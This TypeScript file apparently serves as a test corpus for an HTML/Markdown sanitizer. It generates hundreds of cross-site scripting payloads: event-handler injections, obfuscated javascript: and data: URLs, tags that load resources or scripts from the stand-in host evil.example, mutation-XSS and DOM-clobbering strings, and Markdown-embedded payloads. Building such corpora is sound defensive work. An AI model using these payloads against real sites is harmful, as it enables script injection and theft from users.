// Texts that would run `pwned()` or fetch from evil.example if they were let: ways in, each with several things to do there.

const runs = "pwned()";
const far = "https://evil.example/pwned";

const events = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onbegin", "onpointerenter", "onwheel", "oncopy", "onscroll", "onauxclick", "onbeforetoggle"];
const carriers = [
  (event: string) => `<img src=x ${event}=${runs}>`,
  (event: string) => `<svg ${event}="${runs}"></svg>`,
  (event: string) => `<body ${event}=${runs}>text`,
  (event: string) => `<details open ${event}=${runs}><summary>s</summary></details>`,
  (event: string) => `<input autofocus ${event}='${runs}'>`,
];
const byEvents = carriers.flatMap((carrier) => events.map(carrier));

const addresses = [
  `javascript:${runs}`, `JaVaScRiPt:${runs}`, `java\tscript:${runs}`, `java\nscript:${runs}`, ` javascript:${runs}`, `javascript&colon;${runs}`, `&#106;avascript:${runs}`, `javascript:/*--></title></style></textarea></script><svg/onload='${runs}'>*/${runs}`,
  `data:text/html,<script>${runs}</script>`, "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+", `vbscript:${runs}`, `blob:${far}`, `\u0001javascript:${runs}`, `jav&#x09;ascript:${runs}`, `feed:javascript:${runs}`,
];
const byAddresses = addresses.flatMap((address) => [
  `[click](${address})`, `<a href="${address}">click</a>`, `![picture](${address})`, `[ref]\n\n[ref]: ${address}`,
]);

const fetches = [
  `![x](${far}.png)`, `![x](//evil.example/pwned.png)`, `<img src="${far}">`, `<img srcset="${far} 2x">`, `<picture><source srcset="${far}"><img></picture>`, `<video src="${far}" autoplay></video>`, `<video poster="${far}"></video>`, `<audio src="${far}" autoplay></audio>`,
  `<iframe src="${far}"></iframe>`, `<iframe srcdoc="<script>parent.${runs}</script>"></iframe>`, `<object data="${far}"></object>`, `<embed src="${far}">`, `<link rel="stylesheet" href="${far}">`, `<link rel="prefetch" href="${far}">`, `<link rel=preconnect href="${far}">`, `<meta http-equiv="refresh" content="0;url=${far}">`, `<base href="https://evil.example/">`,
  `<style>@import url(${far});</style>`, `<style>body { background: url(${far}) }</style>`, `<div style="background:url(${far})">x</div>`, `<p style="position:fixed;inset:0;z-index:999">over</p>`, `<body background="${far}">`, `<table background="${far}"><tr><td>x</td></tr></table>`, `<input type="image" src="${far}">`, `<svg><image href="${far}"/></svg>`, `<svg><use href="${far}#x"/></svg>`, `<svg><feImage href="${far}"/></svg>`, `<a href="${far}" ping="${far}">x</a>`, `<track src="${far}">`, `<form action="${far}"><button autofocus>send</button></form>`, `<button formaction="${far}">x</button>`, `<isindex action="javascript:${runs}" type=image>`,
];

const scripts = [
  `<script>${runs}</script>`, `<SCRIPT>${runs}</SCRIPT>`, `<script src="${far}.js"></script>`, `<script type="module">${runs}</script>`, `<scr<script>ipt>${runs}</scr</script>ipt>`, `<script\n>${runs}</script\n>`, `<svg><script>${runs}</script></svg>`, `<svg><script href="data:text/javascript,${runs}"/></svg>`, `<math><mtext><script>${runs}</script></mtext></math>`, `<template><script>${runs}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${runs}>"></noscript>`, `</textarea><script>${runs}</script>`, `</title><script>${runs}</script>`, `</style><script>${runs}</script>`, `<xmp><script>${runs}</script></xmp>`, `<plaintext><script>${runs}</script>`, `<![CDATA[<script>${runs}</script>]]>`, `<!--><script>${runs}</script>-->`, `<!--[if gte IE 4]><script>${runs}</script><![endif]-->`, `<?xml version="1.0"?><script>${runs}</script>`, `<<script>${runs}//<</script>`,
];

const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${runs}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${runs}>`, `<svg></p><style><a id="</style><img src=1 onerror=${runs}>">`, `<svg><style><img src=x onerror=${runs}></style></svg>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${runs}></annotation-xml></math>`, `<svg><foreignObject><img src=x onerror=${runs}></foreignObject></svg>`, `<svg><animate onbegin=${runs} attributeName=x dur=1s>`, `<svg><set attributeName=href to="javascript:${runs}"/></svg>`, `<svg><a xlink:href="javascript:${runs}"><text y=20>x</text></a></svg>`, `<select><style></select><img src=x onerror=${runs}></style>`, `<noembed><img src="</noembed><img src=x onerror=${runs}>"></noembed>`, `<a id=x tabindex=1 onfocus=${runs}></a><img name=getElementById>`, `<form id=test><input name=attributes><input name=parentNode></form>`, `<img name="body"><img name="cookie">`, `<div id="app"></div><div id="main"></div>`, `<a id="location" href="javascript:${runs}">x</a>`, `<custom-element onclick=${runs} is="x">x</custom-element>`, `<p is="x-foo" onclick=${runs}>`, `<div contenteditable autofocus onfocus=${runs}>`, `<marquee onstart=${runs}>x</marquee>`, `<keygen autofocus onfocus=${runs}>`, `<dialog open><form method=dialog><button>OK</button></form></dialog>`,
];

const markdown = [
  `\`\`\`html"><img src=x onerror=${runs}>\ncode\n\`\`\``, `\`\`\`<script>${runs}</script>\ncode\n\`\`\``, `\`<img src=x onerror=${runs}>\``, `| <img src=x onerror=${runs}> |\n|---|\n| <script>${runs}</script> |`, `# <img src=x onerror=${runs}>`, `> <script>${runs}</script>`, `- <svg onload=${runs}>`, `[x](<javascript:${runs}>)`, `[x](javascript:${runs} "title")`, `[x](https://example.org "\\" onmouseover=${runs} \\"")`, `![" onerror="${runs}](x)`, `<javascript:${runs}>`, `<${far}>`, `[<img src=x onerror=${runs}>](https://example.org)`, `**<b onclick=${runs}>bold</b>**`, `&lt;script&gt;${runs}&lt;/script&gt;`, `&#60;script&#62;${runs}&#60;/script&#62;`, `\\<script>${runs}\\</script>`, `[a](data:text/html,<script>${runs}</script>)`, `Term\n: <script>${runs}</script>`, `[^1]\n\n[^1]: <img src=x onerror=${runs}>`, `<div>\n\n**md** <img src=x onerror=${runs}>\n\n</div>`, `${"[".repeat(200)}x${"](javascript:pwned())".repeat(200)}`, `${"<div>".repeat(300)}<img src=x onerror=${runs}>`, `${">".repeat(100)} <script>${runs}</script>`,
];

export const corpus: readonly string[] = [...byEvents, ...byAddresses, ...fetches, ...scripts, ...mutations, ...markdown];
